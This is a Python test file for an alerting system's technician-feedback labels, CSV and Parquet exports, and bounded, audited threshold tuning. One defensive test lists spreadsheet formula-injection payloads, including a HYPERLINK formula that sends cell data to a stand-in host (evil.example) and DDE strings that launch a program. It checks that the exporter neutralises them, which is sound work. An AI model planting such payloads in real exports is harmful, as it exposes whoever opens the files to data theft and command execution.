"""Technician feedback (issue 6, step 4): labels tied to the data window and the model version, CSV and
Parquet exports, and threshold tuning that stays within its bounds and is audited."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edgeloop.alerts.feedback import (
    DEFAULT_LEAD_MS,
    LABEL_COLUMNS,
    Decision,
    InvalidFeedback,
    TuneAction,
    Tuner,
    label_from_alert,
    label_window,
    labels_to_csv,
    labels_to_parquet,
    make_label,
    read_labels_csv,
    read_labels_parquet,
    rule_model_version,
)
from edgeloop.alerts.incidents import AlertState
from edgeloop.alerts.rule_config import parse_rules
from edgeloop.alerts.rules import RuleEngine
from edgeloop.clock import ManualClock
from edgeloop.errors import ConfigError, ConflictError, NotFoundError
from edgeloop.store.alerting import Label, Verdict
from edgeloop.store.base import AuditRecord, TelemetryChunk

T0 = 1_767_225_600_000
MIN = 60_000
HOUR = 3_600_000


def alert_state(**kw: Any) -> AlertState:
    base: dict[str, Any] = dict(id=41, tenant="acme", asset="pump-1", rule="hot", device="dev-1", severity="warning",
                                confidence=1.0, priority=40.0, message="temp 87 above 85", first_seen=T0,
                                last_seen=T0 + 5 * MIN, incident=7, suppressed=None, cleared_at=T0 + 9 * MIN)
    base.update(kw)
    return AlertState(**base)


def label(**kw: Any) -> Label:
    base: dict[str, Any] = dict(alert=1, tenant="acme", asset="pump-1", rule="hot", verdict="false_alarm",
                                by="alice", ts=T0 + HOUR, model_version="rules:hot@3", first_seen=T0,
                                last_seen=T0 + MIN, device="dev-1", reason="pump was being flushed")
    base.update(kw)
    return make_label(**base)


# ---- labels -------------------------------------------------------------------------------------------------

def test_a_label_carries_its_data_window_model_version_and_person() -> None:
    lab = label_from_alert(alert_state(), verdict=Verdict.CONFIRMED, fault_type="bearing_wear", by="alice",
                           ts=T0 + HOUR, model_version="robust-ensemble-v2", peak=87.25)
    assert (lab.alert, lab.incident, lab.tenant, lab.asset, lab.device, lab.rule) == (
        41, 7, "acme", "pump-1", "dev-1", "hot")
    assert lab.verdict is Verdict.CONFIRMED and lab.fault_type == "bearing_wear" and lab.reason == ""
    assert (lab.start_ms, lab.end_ms) == (T0 - DEFAULT_LEAD_MS, T0 + 9 * MIN)  # lead margin .. cleared
    assert (lab.first_seen, lab.last_seen) == (T0, T0 + 5 * MIN)
    assert (lab.model_version, lab.by, lab.ts, lab.peak) == ("robust-ensemble-v2", "alice", T0 + HOUR, 87.25)

    still_open = label_from_alert(alert_state(cleared_at=None), verdict="false_alarm", by="bob", ts=T0 + HOUR,
                                  model_version=rule_model_version("hot", 3), reason="  calibration run  ",
                                  lead_ms=MIN)
    assert (still_open.start_ms, still_open.end_ms) == (T0 - MIN, T0 + 5 * MIN)  # to last_seen
    assert still_open.model_version == "rules:hot@3" and still_open.reason == "calibration run"
    assert still_open.verdict is Verdict.FALSE_ALARM and still_open.fault_type == ""

    relabel = label(verdict="relabel", fault_type="cavitation", reason="", window=(T0 - 5 * MIN, T0 + 2 * MIN))
    assert (relabel.start_ms, relabel.end_ms, relabel.fault_type) == (T0 - 5 * MIN, T0 + 2 * MIN, "cavitation")
    assert label_window(30_000, 40_000) == (0, 40_000)  # never before 0
    assert label_window(T0, T0 + MIN, cleared_at=T0 + 3 * MIN, lead_ms=0) == (T0, T0 + 3 * MIN)


@pytest.mark.parametrize(("change", "field", "message"), [
    ({"verdict": "confirmed", "reason": ""}, "fault_type",
     "fault_type: is required for confirmed: the fault that was confirmed, e.g. 'bearing_wear'"),
    ({"verdict": "relabel"}, "fault_type", "fault_type: is required for relabel: the new label"),
    ({"reason": "   "}, "reason", "reason: is required for a false alarm: say why it was not a fault"),
    ({"fault_type": "cavitation"}, "fault_type", "a false alarm has no fault type; to say what the alert really was"),
    ({"verdict": "confirmed", "fault_type": "Bearing wear"}, "fault_type",
     "fault_type: 'Bearing wear' must be 1-64 lowercase letters, digits"),
    ({"verdict": "maybe"}, "verdict", "verdict: 'maybe' is not one of confirmed, false_alarm, relabel"),
    ({"reason": "x" * 1001}, "reason", "reason: is 1001 characters long; at most 1000"),
    ({"reason": "bad \x1b[31m colour"}, "reason", "reason: must not contain control characters"),
    ({"model_version": ""}, "model_version", "model_version: is required"),
    ({"model_version": "v" * 129}, "model_version", "model_version: is 129 characters long; at most 128"),
    ({"by": ""}, "by", "by: is required"),
    ({"by": "alice\nbob"}, "by", "by: must not contain control characters or line breaks"),
    ({"asset": "Pump 1"}, "asset", "asset: 'Pump 1' is not a valid id"),
    ({"alert": -1}, "alert", "alert: must be an integer >= 0, not -1"),
    ({"last_seen": T0 - 1}, "last_seen", f"last_seen: the alert ends ({T0 - 1}) before it begins ({T0})"),
    ({"ts": T0 - 1}, "ts", "ts: feedback given"),
    ({"window": (T0 + MIN, T0)}, "window", "window: ends"),
    ({"window": (T0 - 40 * 86_400_000, T0)}, "window", "window: is 40.0 days long; at most 31 days"),
    ({"window": (T0 + 2 * MIN, T0 + 3 * MIN)}, "window", "does not overlap the alert"),
    ({"lead_ms": -5}, "lead_ms", "lead_ms: must be >= 0"),
    ({"peak": float("inf")}, "peak", "peak: must be a finite number"),
])
def test_invalid_feedback_is_refused_with_a_clear_message(change: dict[str, Any], field: str, message: str) -> None:
    with pytest.raises(InvalidFeedback) as info:
        label(**change)
    assert info.value.field == field
    assert message in str(info.value)
    assert isinstance(info.value, ConfigError)  # the API answers ConfigError with 422


# ---- exports ------------------------------------------------------------------------------------------------

def sample_labels() -> list[Label]:
    return [
        label(alert=1, reason='flushing, "by hand"\nsee log', peak=None, incident=None),
        label(alert=2, verdict="confirmed", fault_type="bearing_wear", reason="", peak=0.1 + 0.2, incident=12,
              model_version="robust-ensemble-v2", by="bob"),
        label(alert=3, verdict="relabel", fault_type="sensor.stuck-at", reason="was tagged overheating, naïve",
              peak=-3.5, device="", tenant="beta", asset="motor-9", incident=7, first_seen=T0 + HOUR,
              last_seen=T0 + HOUR, ts=T0 + 2 * HOUR),
    ]


def test_csv_export_round_trips(tmp_path: Path) -> None:
    labels = sample_labels()
    buf = io.StringIO(newline="")
    assert labels_to_csv(labels, buf) == 3
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert tuple(rows[0]) == LABEL_COLUMNS
    assert LABEL_COLUMNS == ("alert", "incident", "tenant", "asset", "device", "rule", "verdict", "fault_type",
                             "reason", "start_ms", "end_ms", "first_seen", "last_seen", "peak", "model_version",
                             "by", "ts")
    first = dict(zip(LABEL_COLUMNS, rows[1], strict=True))
    assert first["incident"] == "" and first["peak"] == "" and first["verdict"] == "false_alarm"
    assert first["reason"] == 'flushing, "by hand"\nsee log' and first["start_ms"] == str(T0 - DEFAULT_LEAD_MS)
    assert float(rows[2][LABEL_COLUMNS.index("peak")]) == 0.1 + 0.2  # exact, not rounded
    assert read_labels_csv(io.StringIO(buf.getvalue(), newline="")) == labels

    path = tmp_path / "labels.csv"
    assert labels_to_csv(labels, path) == 3
    assert read_labels_csv(path) == labels
    assert path.read_text(encoding="utf-8") == buf.getvalue()


def test_csv_export_neutralises_spreadsheet_formulas() -> None:
    """Text a spreadsheet would run (=, +, -, @, tab, CR) starts with ' in the CSV; reading it back restores it."""
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "=cmd|' /C calc'!A0", "'quoted already", "plain, =not at the start"]
    labels = [label(alert=i + 1, reason=text) for i, text in enumerate(texts)]
    buf = io.StringIO(newline="")
    labels_to_csv(labels, buf)
    reasons = [row[LABEL_COLUMNS.index("reason")] for row in csv.reader(io.StringIO(buf.getvalue(), newline=""))][1:]
    assert reasons == ["'" + t for t in texts[:-1]] + [texts[-1]]
    assert read_labels_csv(io.StringIO(buf.getvalue(), newline="")) == labels


def test_parquet_export_round_trips_with_the_same_typed_columns(tmp_path: Path) -> None:
    labels = sample_labels()
    path = tmp_path / "labels.parquet"
    assert labels_to_parquet(labels, path) == 3
    table = pq.read_table(path)
    assert tuple(table.column_names) == LABEL_COLUMNS
    types = {f.name: f.type for f in table.schema}
    assert types["alert"] == pa.int64() and types["start_ms"] == pa.int64() and types["peak"] == pa.float64()
    assert types["verdict"] == pa.string() and types["reason"] == pa.string()
    assert table.schema.metadata[b"edgeloop.labels.schema"] == b"1"
    assert table.column("incident").to_pylist() == [None, 12, 7]
    assert table.column("peak").to_pylist() == [None, 0.1 + 0.2, -3.5]
    assert table.column("verdict").to_pylist() == ["false_alarm", "confirmed", "relabel"]
    assert table.column("end_ms").to_pylist() == [T0 + MIN, T0 + MIN, T0 + HOUR]
    assert read_labels_parquet(path) == labels

    empty = tmp_path / "empty.parquet"
    assert labels_to_parquet([], empty) == 0
    assert tuple(pq.read_table(empty).column_names) == LABEL_COLUMNS and read_labels_parquet(empty) == []


def test_exports_with_other_columns_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="not a label export: the columns must be alert, incident"):
        read_labels_csv(io.StringIO("alert,verdict\n1,confirmed\n"))
    path = tmp_path / "other.parquet"
    pq.write_table(pa.table({"alert": [1]}), path)
    with pytest.raises(ConfigError, match="not a label export"):
        read_labels_parquet(path)
    buf = io.StringIO()
    labels_to_csv(sample_labels()[:1], buf)
    with pytest.raises(ConfigError, match=r"line 2: .*Invalid enum value 'maybe'"):
        read_labels_csv(io.StringIO(buf.getvalue().replace("false_alarm", "maybe")))


# ---- tuning -------------------------------------------------------------------------------------------------

RULES = """\
rules:
  - {name: hot, kind: threshold, channel: temp, above: 85, clear_below: 80,
     tune: {mode: auto, after_false_alarms: 3, period_s: 3600, max_step: 2, max: 90}}
  - {name: low, kind: threshold, channel: level, below: 10, clear_above: 12,
     tune: {mode: auto, after_false_alarms: 2, period_s: 3600, max_step_pct: 20, min: 6}}
  - {name: vib, kind: threshold, channel: vib, above: 7, tune: {after_false_alarms: 3, max_step: 0.5, max: 8}}
  - {name: plain, kind: threshold, channel: temp, above: 100}
"""


class Feed:
    """Makes labels with fresh alert ids and times, and feeds them to a tuner."""

    def __init__(self, tuner: Tuner) -> None:
        self.tuner = tuner
        self.next_alert = 100
        self.t = T0

    def one(self, verdict: str = "false_alarm", *, asset: str = "pump-1", rule: str = "hot", by: str = "alice",
            peak: float | None = None, gap_ms: int = MIN, alert: int | None = None) -> Decision | None:
        self.t += gap_ms
        if alert is None:
            self.next_alert += 1
            alert = self.next_alert
        extra = {"reason": "no fault"} if verdict == "false_alarm" else {"fault_type": "bearing_wear", "reason": ""}
        return self.tuner.observe(label(alert=alert, asset=asset, rule=rule, verdict=verdict, by=by, peak=peak,
                                        first_seen=self.t, last_seen=self.t + 1000, ts=self.t + 2000, **extra))

    def false_alarms(self, n: int, **kw: Any) -> list[Decision | None]:
        return [self.one(**kw) for _ in range(n)]


def tuner() -> Tuner:
    return Tuner(parse_rules(RULES), clock=ManualClock(T0 + 30 * 86_400_000))


def test_false_alarms_move_the_threshold_by_one_bounded_step_and_audit_it() -> None:
    tun = tuner()
    feed = Feed(tun)
    assert feed.one(by="alice") is None and feed.one(by="bob") is None
    decision = feed.one(by="alice")
    assert decision is not None and decision.action is TuneAction.APPLIED
    change = decision.change
    assert change is not None and (change.old, change.new, change.old_clear, change.new_clear) == (85, 87, 80, 82)
    assert change.override() == {"above": 87.0, "clear_below": 82.0}
    assert tun.level("pump-1", "hot") == (87.0, 82.0) and tun.level("pump-2", "hot") == (85.0, 80.0)
    audit = decision.audit
    assert (audit.actor, audit.asset, audit.rule, audit.old, audit.new, audit.lower, audit.upper) == (
        "feedback:alice,bob", "pump-1", "hot", 85, 87, None, 90)
    assert audit.triggered_by == ("alice", "bob") and audit.alerts == (101, 102, 103) and audit.moved
    assert "3 false alarms (alerts 101, 102, 103) within 3600 s: above 85 -> 87" in audit.why
    record = audit.to_record(source="api")
    assert isinstance(record, AuditRecord)
    assert (record.ts_ms, record.actor, record.action, record.target, record.outcome, record.source) == (
        T0 + 3 * MIN + 2000, "feedback:alice,bob", "rule.tune.applied", "pump-1/hot", "ok", "api")
    detail = json.loads(record.detail)
    assert (detail["old"], detail["new"], detail["old_clear"], detail["new_clear"], detail["upper"]) == (
        85, 87, 80, 82, 90)
    assert detail["alerts"] == [101, 102, 103] and detail["triggered_by"] == ["alice", "bob"]

    # The change acts on that asset only, through the engine's per-asset override.
    engine = RuleEngine(parse_rules(RULES))
    engine.set_override(change.asset, change.rule, **change.override())
    for asset, expected in (("pump-1", [88.0]), ("pump-2", [86.0])):
        temps = [86.0, 88.0]
        out = engine.evaluate_chunk(TelemetryChunk(
            device=f"d-{asset}", seq=0, channels=("temp",), ts=np.array([T0, T0 + 1000], dtype=np.int64),
            values=np.array([[t] for t in temps]), tenant="acme", asset=asset))
        assert [s.value for s in out if s.rule == "hot"] == expected


def test_false_alarms_outside_the_period_twice_on_one_alert_or_on_other_rules_do_not_tune() -> None:
    tun = tuner()
    feed = Feed(tun)
    assert feed.false_alarms(6, gap_ms=61 * MIN) == [None] * 6  # never 3 within an hour
    assert feed.one(alert=7) is None and feed.one(alert=7) is None  # one alert counts once
    assert feed.false_alarms(2, rule="plain") == [None, None]  # no tune policy: a label only
    assert feed.false_alarms(2, asset="pump-2") == [None, None]  # counted per asset
    assert tun.level("pump-1", "hot") == (85.0, 80.0)
    with pytest.raises(NotFoundError):
        tun.level("pump-1", "plain")


def test_repeated_tuning_never_passes_the_bound_nor_max_step() -> None:
    tun = tuner()
    feed = Feed(tun)
    decisions = [d for _ in range(40) for d in feed.false_alarms(3) if d is not None]
    assert len(decisions) == 40
    assert [d.audit.new for d in decisions[:4]] == [87, 89, 90, 90]
    assert [d.action for d in decisions[:4]] == [TuneAction.APPLIED] * 3 + [TuneAction.HELD]
    for d in decisions:
        assert d.audit.new <= 90 and d.audit.new - d.audit.old <= 2
    for d in decisions[3:]:
        assert d.action is TuneAction.HELD and d.change is None and not d.audit.moved
        assert d.audit.to_record().outcome == "refused" and "already at its tuning bound 90" in d.audit.why
    assert tun.level("pump-1", "hot") == (90.0, 85.0)

    # A rule raising below a level, with a relative step: down by at most 20 % each time, never below 6.
    levels = [d.audit.new for _ in range(20) for d in feed.false_alarms(2, rule="low") if d is not None]
    assert levels[:4] == [8.0, pytest.approx(6.4), 6.0, 6.0]
    level, clear = tun.level("pump-1", "low")
    assert all(x >= 6 for x in levels) and level == 6.0 and clear == pytest.approx(8.0)  # the band keeps 2


def test_false_alarms_of_alerts_before_a_change_do_not_count_towards_the_next() -> None:
    tun = tuner()
    feed = Feed(tun)
    feed.false_alarms(3)
    assert tun.level("pump-1", "hot") == (87.0, 82.0)
    changed_at = feed.t + 2000
    late = [tun.observe(label(alert=900 + k, first_seen=changed_at - 1 - k, last_seen=changed_at, ts=changed_at + k,
                              reason="late feedback")) for k in range(5)]
    assert late == [None] * 5  # raised under the old level
    assert feed.false_alarms(3)[-1] is not None


def test_propose_mode_changes_nothing_until_approved() -> None:
    clock = ManualClock(T0 + 10 * MIN)  # the approval comes after the 9 alerts below
    tun = Tuner(parse_rules(RULES), clock=clock)
    feed = Feed(tun)
    decision = feed.false_alarms(3, rule="vib", by="carl")[-1]
    assert decision is not None and decision.action is TuneAction.PROPOSED and decision.change is None
    proposal = decision.proposal
    assert proposal is not None and (proposal.change.old, proposal.change.new) == (7, 7.5)
    assert tun.level("pump-1", "vib") == (7.0, None) and tun.pending() == [proposal]
    assert decision.audit.to_record().action == "rule.tune.proposed" and decision.audit.proposal == proposal.id
    assert not decision.audit.moved
    assert feed.false_alarms(6, rule="vib") == [None] * 6  # one proposal at a time
    assert tun.pending("pump-1") == [proposal] and tun.pending("pump-2") == []

    approved = tun.approve(proposal, by="olga")
    assert approved.action is TuneAction.APPROVED and approved.change == proposal.change
    assert approved.change.override() == {"above": 7.5}
    assert tun.level("pump-1", "vib") == (7.5, None) and tun.pending() == []
    record = approved.audit.to_record()
    assert (record.actor, record.action, record.outcome, record.ts_ms) == ("olga", "rule.tune.approved", "ok",
                                                                           T0 + 10 * MIN)
    assert approved.audit.triggered_by == ("carl",) and "approved by olga" in approved.audit.why
    with pytest.raises(NotFoundError, match="pending proposal 1"):
        tun.approve(proposal, by="olga")

    second = feed.false_alarms(3, rule="vib")[-1]
    assert second is not None and second.proposal is not None and second.proposal.change.new == 8
    rejected = tun.reject(second.proposal.id, by="olga", reason="pump is due for a bearing check")
    assert rejected.action is TuneAction.REJECTED and rejected.change is None
    assert rejected.audit.to_record().action == "rule.tune.rejected"
    assert rejected.audit.why == "rejected by olga: pump is due for a bearing check"
    assert tun.level("pump-1", "vib") == (7.5, None) and tun.pending() == []
    with pytest.raises(InvalidFeedback, match="by: is required"):
        tun.approve(feed.false_alarms(3, rule="vib")[-1].proposal, by=" ")  # type: ignore[union-attr,arg-type]


def test_a_confirmation_blocks_loosening_past_its_peak_and_resets_the_count() -> None:
    tun = tuner()
    feed = Feed(tun)
    feed.false_alarms(2)
    assert feed.one("confirmed", peak=86.5) is None
    assert feed.one() is None  # the two earlier false alarms were reset by the confirmation
    held = feed.false_alarms(2)[-1]
    assert held is not None and held.action is TuneAction.HELD and held.change is None
    assert held.audit.new == 87 and held.audit.old == 85  # the refused move
    assert "moving the level to 87 would have missed the fault confirmed on alert 103 (peak 86.5)" in held.audit.why
    assert held.audit.to_record().outcome == "refused"
    assert tun.level("pump-1", "hot") == (85.0, 80.0)
    # the confirmation is per asset: pump-2 still tunes
    moved = feed.false_alarms(3, asset="pump-2")[-1]
    assert moved is not None and moved.action is TuneAction.APPLIED

    # A confirmed peak far above leaves room up to just below it; a relabel counts as a real fault too.
    tun2 = tuner()
    feed2 = Feed(tun2)
    feed2.one("relabel", peak=88.5)
    news = [d.audit.new for _ in range(5) for d in feed2.false_alarms(3) if d is not None]
    assert news == [87, 89, 89, 89, 89] and tun2.level("pump-1", "hot")[0] == 87

    # Without a peak, a confirmation forbids loosening altogether.
    tun3 = tuner()
    feed3 = Feed(tun3)
    feed3.one("confirmed")
    d = feed3.false_alarms(3)[-1]
    assert d is not None and d.action is TuneAction.HELD and "with no peak value" in d.audit.why


def test_a_fault_confirmed_while_a_proposal_waits_refuses_its_approval() -> None:
    tun = tuner()
    feed = Feed(tun)
    proposal = feed.false_alarms(3, rule="vib")[-1].proposal  # type: ignore[union-attr]
    assert proposal is not None
    feed.one("confirmed", rule="vib", peak=7.2)
    refused = tun.approve(proposal, by="olga")
    assert refused.action is TuneAction.HELD and refused.change is None
    assert refused.audit.to_record().outcome == "refused" and refused.audit.actor == "olga"
    assert "approval refused: moving the level to 7.5 would have missed" in refused.audit.why
    assert tun.level("pump-1", "vib") == (7.0, None) and tun.pending() == []


def test_restore_sets_a_stored_level_and_checks_it() -> None:
    tun = tuner()
    tun.restore("pump-1", "hot", level=89, clear=84, since_ms=T0)
    assert tun.level("pump-1", "hot") == (89.0, 84.0)
    decision = Feed(tun).false_alarms(3)[-1]
    assert decision is not None and (decision.audit.old, decision.audit.new) == (89, 90)
    with pytest.raises(ConfigError, match=r"above \(95\) is outside the tuning bounds"):
        tun.restore("pump-1", "hot", level=95, clear=84)
    with pytest.raises(ConfigError, match=r"clear_below \(84\) must be <= above \(83\)"):
        tun.restore("pump-1", "hot", level=83, clear=84)
    with pytest.raises(NotFoundError):
        tun.restore("pump-1", "plain", level=100)


def test_an_approval_after_the_level_changed_is_a_conflict() -> None:
    tun = tuner()
    proposal = Feed(tun).false_alarms(3, rule="vib")[-1].proposal  # type: ignore[union-attr]
    assert proposal is not None
    tun.restore("pump-1", "vib", level=7.8)
    with pytest.raises(ConflictError, match=r"the level of 'vib' on 'pump-1' is 7\.8 now, not 7 as proposed"):
        tun.approve(proposal, by="olga")
    assert tun.pending() == [proposal]
    assert tun.reject(proposal, by="olga").action is TuneAction.REJECTED


@settings(max_examples=150, deadline=None)
@given(max_step=st.floats(0.01, 20), upper=st.floats(85, 200), n=st.integers(1, 5),
       events=st.lists(st.tuples(st.sampled_from(["false_alarm", "false_alarm", "false_alarm", "confirmed"]),
                                 st.floats(80, 250), st.integers(1, 40 * MIN)), max_size=80))
def test_tuning_invariants(max_step: float, upper: float, n: int, events: list[tuple[str, float, int]]) -> None:
    rules = parse_rules(f"""\
rules:
  - {{name: hot, kind: threshold, channel: temp, above: 85, clear_below: 80,
     tune: {{mode: auto, after_false_alarms: {n}, period_s: 3600, max_step: {max_step!r}, max: {upper!r}}}}}
""")
    tun = Tuner(rules, clock=ManualClock())
    feed = Feed(tun)
    lowest_peak = float("inf")
    for verdict, peak, gap in events:
        before = tun.level("pump-1", "hot")
        decision = feed.one(verdict, peak=peak if verdict == "confirmed" else None, gap_ms=gap)
        after = tun.level("pump-1", "hot")
        if verdict == "confirmed":
            lowest_peak = min(lowest_peak, peak)
        if decision is None:
            assert after == before
            continue
        assert decision.audit.old == before[0]
        if decision.action is TuneAction.APPLIED:
            assert decision.change is not None and after == (decision.change.new, decision.change.new_clear)
            assert before[0] < after[0] <= before[0] + max_step + 1e-9
            assert after[1] is not None and before[1] is not None
            assert after[0] - before[0] == pytest.approx(after[1] - before[1])  # the band keeps its width
        else:
            assert decision.action is TuneAction.HELD and after == before
        assert 85 <= after[0] <= upper
        if decision.action is TuneAction.APPLIED:
            assert after[0] < lowest_peak  # a move never misses a fault confirmed before it
